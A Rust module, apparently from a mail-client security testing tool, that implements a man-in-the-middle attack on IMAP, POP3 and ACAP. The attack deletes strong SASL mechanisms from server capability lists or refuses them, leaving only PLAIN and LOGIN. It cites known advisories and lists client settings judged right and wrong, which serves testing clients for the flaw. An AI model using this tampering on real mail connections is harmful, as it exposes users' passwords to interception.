//! Leaves only the mechanisms that show the password.

use super::kit::{LOGINS, asked, with_logins};
use super::{Attack, Deciding, Group, tamper};
use crate::base::{Protocol, Side, Switch, switch};
use crate::harm::success;
use crate::proto::{Answer, Asked, Dialect};
use crate::trace::Verb;

switch!(
    Middle STRONG,
    "strong-mechanisms",
    Setting,
    &["deleted", "refused"],
    &[],
    "Strong mechanisms",
    "Taken off the list, or left on it and refused when the client asks for one."
);

static SWITCHES: &[&Switch] = &[&STRONG, &LOGINS];

static DECIDING: &[Deciding] = &[
    Deciding {
        protocols: &[Protocol::Imap],
        given: &["server.starttls=off", "server.logindisabled=off", "server.mechanisms=plain+scram-sha-256"],
        right: &["client.minimum-mechanism=no-password"],
        wrong: &["client.tls=opportunistic", "client.minimum-mechanism=any"],
    },
    Deciding {
        protocols: &[Protocol::Pop3],
        given: &["server.starttls=off", "server.mechanisms=plain+scram-sha-256", "middle.logins=answered"],
        right: &["client.minimum-mechanism=no-password"],
        wrong: &["client.tls=opportunistic", "client.minimum-mechanism=any"],
    },
    Deciding {
        protocols: &[Protocol::Acap],
        given: &["server.starttls=off", "server.mechanisms=plain+scram-sha-256", "middle.logins=answered"],
        right: &["client.minimum-mechanism=no-password"],
        wrong: &["client.tls=opportunistic", "client.minimum-mechanism=any", "client.plain-in-clear=on"],
    },
    Deciding {
        protocols: &[Protocol::Imap],
        given: &["server.logindisabled=off", "server.mechanisms=plain+scram-sha-256"],
        right: &[],
        wrong: &["client.keep-capabilities=on"],
    },
    Deciding {
        protocols: &[Protocol::Pop3],
        given: &["server.mechanisms=plain+scram-sha-256"],
        right: &[],
        wrong: &["client.keep-capabilities=on"],
    },
    Deciding {
        protocols: &[Protocol::Acap],
        given: &["server.mechanisms=plain+scram-sha-256", "middle.logins=answered"],
        right: &[],
        wrong: &["client.keep-capabilities=on"],
    },
];

/// The attack.
pub static ATTACK: Attack = Attack {
    id: "downgrade-mechanisms",
    title: "Leave the weak mechanisms",
    about: "Deletes every mechanism that keeps the password to itself from what the server lists, or refuses it when the client asks for it.",
    group: Group::Capabilities,
    known: &["GHSA-9j88-vvj5-vhgr MailKit", "CVE-2007-5855 Apple Mail"],
    protocols: &[Protocol::Imap, Protocol::Pop3, Protocol::Acap],
    switches: SWITCHES,
    build: |switches, dialect| {
        let refuses = switches.get(&STRONG) == "refused";
        with_logins(
            switches,
            dialect,
            tamper(move |message, moves| {
                let deletes = !refuses && message.from == Side::Server;
                let weak = deletes.then(|| without_strong(dialect, message.octets)).flatten();
                let strong = asked(dialect, &message).filter(|asked| refuses && is_strong(asked));
                match (weak, strong) {
                    (Some(octets), _) => moves.replace(octets),
                    (None, Some(asked)) => {
                        moves.answer((dialect.answer)(
                            &asked.tag,
                            Answer::No,
                            "this mechanism does not work",
                        ));
                    }
                    (None, None) => moves.pass(),
                }
            }),
        )
    },
    success: &success::WEAKER_LOGIN,
    deciding: DECIDING,
};

/// Mechanisms that show the password.
const WEAK: [&str; 2] = ["PLAIN", "LOGIN"];

/// Whether a client asks for a mechanism that keeps the password to itself.
fn is_strong(asked: &Asked) -> bool {
    let mechanism = asked.name.split(' ').nth(1);
    asked.verb == Verb::Authenticate && mechanism.is_some_and(|name| !WEAK.contains(&name))
}

fn without_strong(dialect: &Dialect, octets: &[u8]) -> Option<Vec<u8>> {
    if dialect.protocol == Protocol::Imap {
        return (dialect.without_capabilities)(octets, &|word| {
            word.strip_prefix("AUTH=").is_some_and(|name| !WEAK.contains(&name))
        });
    }
    let items = (dialect.items)(octets)?;
    let sasl = items.iter().find_map(|item| item.strip_prefix("SASL"))?;
    let kept: Vec<_> = sasl.split(' ').filter(|name| WEAK.contains(name)).collect();
    let without = (dialect.without_capabilities)(octets, &|word| word == "SASL")?;
    if kept.is_empty() && dialect.protocol == Protocol::Pop3 {
        return Some(without);
    }
    (dialect.with_items)(&without, &[["SASL", &kept.join(" ")].join(" ").trim_end()])
}
